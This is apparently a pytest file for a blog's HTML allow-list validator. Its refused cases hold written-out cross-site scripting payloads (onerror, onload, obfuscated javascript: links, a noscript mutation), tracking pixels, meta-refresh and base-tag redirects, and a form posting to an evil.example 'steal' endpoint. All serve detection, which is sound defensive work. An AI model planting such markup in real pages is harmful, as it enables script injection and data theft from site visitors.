"""What a post may contain (kp_validate.allowlist): one allow-list for the rendered HTML.

Fast function-level tests name, for each kind of hostile or careless markup, what the
check finds; one real build shows that each becomes an author error with the post's file,
the line the markup was written on and the fix; and the real site's own blocks (compare,
gallery, video facade and player, FAQ, testimonials, packages, consultation, the
newsletter form, kp_images' pictures) pass the list they were derived from.
"""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from kp_validate.allowlist import FACADE_ORIGINS, Finding, Policy, explain, findings

from pelicanconf import STUDIO
from sitetools.security import VIDEO_FRAME_ORIGINS
from tests.sitebuild import AUTHOR_ERROR, build_site, post, problems_about

DEV = Policy({"SITEURL": "", "STUDIO": STUDIO})
PUBLISHED = Policy({"SITEURL": "https://kpstudios.example", "STUDIO": STUDIO})

ALLOWED = [
    '<p>Plain <em>text</em> &amp; <strong>bold</strong>, <span class="caps">AI</span></p>',
    '<h2 id="what-to-wear">What to wear</h2><ul><li><a href="/blog/x/">x</a></li></ul>',
    '<p><a href="https://www.linkedin.com/in/someone" rel="noopener">profile</a> '
    '<a href="mailto:hello@kpstudios.example">mail</a> <a href="tel:+15035550142">call</a></p>',
    '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody>'
    "</table>",
    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>'
    '<div class="footnote"><hr><ol><li id="fn:1"><p>Note.&#160;<a class="footnote-backref" '
    'href="#fnref:1" title="Jump back">&#8617;</a></p></li></ol></div>',
    '<pre><code class="language-python">print("&lt;script&gt;")</code></pre>',
    "<details><summary>Why?</summary><p>Because.</p></details><!-- a comment -->",
    '<img src="/images/blog/portrait.jpg" alt="A portrait" loading="lazy" decoding="async">',
    '<picture><source type="image/avif" srcset="/images/r/a-360.avif 360w, '
    '/images/r/a-720.avif 720w" sizes="100vw"><img src="/images/r/a-720.jpg" '
    'srcset="/images/r/a-360.jpg 360w" sizes="100vw" width="720" height="480" alt="A" '
    'fetchpriority="high" decoding="async"></picture>',
    '<div class="kp-video__frame" data-kp-video data-embed="https://www.youtube-nocookie.com/'
    'embed/abc?autoplay=1" data-title="A video"><button type="button" data-kp-video-play '
    "hidden>Play</button></div>",
    '<video controls preload="none" playsinline poster="/images/p.jpg"><source '
    'src="/video/a.mp4" type="video/mp4"><track kind="captions" src="/video/a.vtt" '
    'srclang="en" label="English" default></video>',
    '<script type="application/ld+json">{"@type": "FAQPage", "x": "</b>"}</script>',
    '<input class="kp-compare__range" type="range" min="0" max="100" step="1" value="50" '
    'aria-label="Reveal" hidden>',
]


@pytest.mark.parametrize("html", ALLOWED)
def test_what_markdown_and_our_blocks_write_is_allowed(html):
    assert findings(html, DEV) == []


def test_the_published_site_may_load_from_its_own_siteurl():
    html = '<img src="https://kpstudios.example/images/r/a-720.jpg" alt="A">'
    assert findings(html, PUBLISHED) == []
    assert findings(html, DEV) == [
        Finding("img", "src", "https://kpstudios.example/images/r/a-720.jpg", "elsewhere")
    ]


# (markup, (tag, attribute, reason) of the first finding)
REFUSED = {
    "image from another host": (
        '<img src="https://tracker.example/pixel.gif" alt="x">',
        ("img", "src", "elsewhere"),
    ),
    "protocol-relative image": (
        '<img src="//cdn.example/x.jpg" alt="x">',
        ("img", "src", "elsewhere"),
    ),
    "backslash host": ('<img src="/\\evil.example/x.jpg" alt="x">', ("img", "src", "elsewhere")),
    "tab in the scheme": (
        '<img src="ht&#9;tps://evil.example/x.jpg" alt="x">',
        ("img", "src", "elsewhere"),
    ),
    "siteurl look-alike": (
        '<img src="https://kpstudios.example.evil.example/x.jpg" alt="x">',
        ("img", "src", "elsewhere"),
    ),
    "srcset from another host": (
        '<img src="/a.jpg" srcset="/a.jpg 1x, https://evil.example/b.jpg 2x" alt="x">',
        ("img", "srcset", "elsewhere"),
    ),
    "picture source elsewhere": (
        '<picture><source srcset="https://evil.example/a.avif">'
        '<img src="/a.jpg" alt="a"></picture>',
        ("source", "srcset", "elsewhere"),
    ),
    "data: image": (
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
        ("img", "src", "data-uri"),
    ),
    "video poster elsewhere": (
        '<video controls poster="https://evil.example/p.jpg"></video>',
        ("video", "poster", "elsewhere"),
    ),
    "audio elsewhere": (
        '<audio controls src="https://evil.example/a.mp3"></audio>',
        ("audio", "src", "elsewhere"),
    ),
    "lightbox srcset elsewhere": (
        '<a href="/a.jpg" data-srcset="https://evil.example/a.jpg 720w">a</a>',
        ("a", "data-srcset", "elsewhere"),
    ),
    "facade pointing elsewhere": (
        '<div data-kp-video data-embed="https://evil.example/embed/x"></div>',
        ("div", "data-embed", "facade"),
    ),
    "iframe": (
        '<iframe src="https://www.youtube.com/embed/abc"></iframe>',
        ("iframe", None, "not-listed"),
    ),
    "object": (
        '<object data="https://evil.example/x.swf"></object>',
        ("object", None, "not-listed"),
    ),
    "embed": ('<embed src="https://evil.example/x.swf">', ("embed", None, "not-listed")),
    "stylesheet": (
        '<link rel="stylesheet" href="https://evil.example/a.css">',
        ("link", None, "not-listed"),
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        ("meta", None, "not-listed"),
    ),
    "base": ('<base href="https://evil.example/">', ("base", None, "not-listed")),
    "inline svg": ("<svg onload=alert(1)><circle r=5></circle></svg>", ("svg", None, "not-listed")),
    "script": ("<script>alert(1)</script>", ("script", None, "not-listed")),
    "script with another type": (
        '<script type="module">alert(1)</script>',
        ("script", None, "not-listed"),
    ),
    "script src": (
        '<script src="https://evil.example/a.js"></script>',
        ("script", None, "not-listed"),
    ),
    "style element": (
        "<style>@import url(https://evil.example/a.css)</style>",
        ("style", None, "not-listed"),
    ),
    "style attribute": (
        '<p style="background:url(https://evil.example/x)">x</p>',
        ("p", "style", "not-listed"),
    ),
    "event handler, browser spelling": (
        '<img/src="/a.jpg"/onerror=alert(1) alt=x>',
        ("img", "onerror", "not-listed"),
    ),
    "details ontoggle": (
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        ("details", "ontoggle", "not-listed"),
    ),
    "javascript link": ('<a href="jav&#x09;ascript:alert(1)">x</a>', ("a", "href", "scheme")),
    "form to another host": (
        '<form action="https://evil.example/steal" method="post">'
        '<input type="text" name="q"></form>',
        ("form", "action", "form-target"),
    ),
    "image button": (
        '<input type="image" src="https://evil.example/x.png">',
        ("input", "type", "not-listed"),
    ),
    "ping": ('<a href="/x/" ping="https://evil.example/">x</a>', ("a", "ping", "not-listed")),
    "unknown element with a handler": (
        "<xss onclick=alert(1)>x</xss>",
        ("xss", None, "not-listed"),
    ),
    "noscript mutation": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        ("noscript", None, "not-listed"),
    ),
    "textarea": ("<textarea>type here</textarea>", ("textarea", None, "not-listed")),
    # A fragment parser folds <body> into the page's own: found though html5ever drops it.
    "body handler": ("<BODY onload=alert(1)>", ("body", None, "not-listed")),
    # Left open, it would swallow the theme's markup after the post (a curled quote).
    "unclosed quote": ('<img src="/a.jpg\u201d alt=x>', ("?", None, "unclosed")),
    "unclosed comment": ("<p>x</p><!-- the rest", ("?", None, "unclosed")),
}


@pytest.mark.parametrize("scenario", list(REFUSED))
def test_what_a_post_may_not_contain_is_found(scenario):
    html, (tag, attribute, reason) = REFUSED[scenario]
    found = findings(html, DEV)
    assert found, f"{scenario}: nothing found in {html!r}"
    first = found[0]
    assert (first.tag, first.attribute, first.reason) == (tag, attribute, reason), found
    problem, fix, _kind, _detail = explain(first)
    assert problem and fix


def test_the_newsletter_form_may_post_to_its_own_address_only():
    action = STUDIO["newsletter"]["action"]
    form = (
        f'<form action="{action.replace("&", "&amp;")}" method="post">'
        '<button type="submit">Go</button></form>'
    )
    assert findings(form, DEV) == []
    assert findings(form, Policy({"SITEURL": ""})) == [
        Finding("form", "action", action, "form-target")
    ]


def test_the_facade_hosts_are_the_csp_frame_hosts():
    assert FACADE_ORIGINS == VIDEO_FRAME_ORIGINS


# Each hostile fragment in its own post, on line 8 (after a one-line intro): one build.
IN_A_POST = {
    "external-image.md": (
        "![A face](https://tracker.example/face.jpg)",
        "images come from content/",
    ),
    "iframe.md": (
        '<iframe src="https://www.youtube.com/embed/abc"></iframe>',
        "embed a YouTube or Vimeo video with `/// video`",
    ),
    "upper-case.md": ('<IFRAME SRC="https://evil.example/"></IFRAME>', "`/// video`"),
    "video-poster.md": (
        '<video controls poster="https://evil.example/p.jpg"></video>',
        "media come from content/",
    ),
    "data-image.md": (
        '<img alt="x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
        "images come from content/",
    ),
    "svg.md": (
        '<svg><image href="https://evil.example/x.png"/></svg>',
        "save the drawing as an image",
    ),
    "meta.md": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "the theme writes",
    ),
    "form.md": (
        '<form action="https://evil.example/"><button>Send</button></form>',
        "booking page",
    ),
    "target.md": ('<a href="https://example.com/" target="_blank">x</a>', "remove target="),
}
FRONT = "Title: A post\nDate: 2026-02-01\nCategory: Headshots"


def test_each_refusal_is_an_author_error_with_file_line_and_fix(tmp_path):
    files = {
        f"blog/{name}": post(f"{FRONT}\nSlug: {name[:-3]}", f"Intro.\n\n{html}")
        for name, (html, _fix) in IN_A_POST.items()
    }
    result = build_site(tmp_path, files)
    assert not result.ok
    assert not (tmp_path / "output").exists()
    for problem in result.problems:
        assert AUTHOR_ERROR.match(problem), problem
    for name, (_html, fix) in IN_A_POST.items():
        ours = problems_about(result, f"blog/{name}")
        assert ours, f"nothing names {name}:\n" + "\n".join(result.problems)
        assert any(fix in match.group(0) for match in ours), (name, [m.group(0) for m in ours])
        assert {int(match.group("line")) for match in ours} == {8}, (name, ours)


def test_a_refusal_is_reported_once(tmp_path):
    result = build_site(tmp_path, {"blog/x.md": post(FRONT, 'Intro.\n\n<p onclick="x()">Hi</p>')})
    ours = problems_about(result, "blog/x.md")
    assert [m.group("problem") for m in ours] == [
        "It contains an onclick= attribute, which runs code."
    ]


def _content_parts(page) -> list[str]:
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    parts = soup.select(".prose") + soup.select("section.newsletter") + soup.select("section.cta")
    return ["".join(str(child) for child in part.children) for part in parts]


def test_the_real_sites_blocks_pass_the_list_they_were_derived_from(site, reader_site):
    checked = 0
    for root in (site, reader_site):
        for page in sorted(root.rglob("index.html")):
            for html in _content_parts(page):
                assert findings(html, DEV) == [], page.relative_to(root)
                checked += 1
    text = "".join(page.read_text(encoding="utf-8") for page in site.rglob("index.html"))
    for block in ("kp-compare", "kp-gallery", "kp-video", "faq__item", "testimonial", "package"):
        assert f'class="{block}' in text, f"the real site no longer shows a {block}"
    assert checked > 10
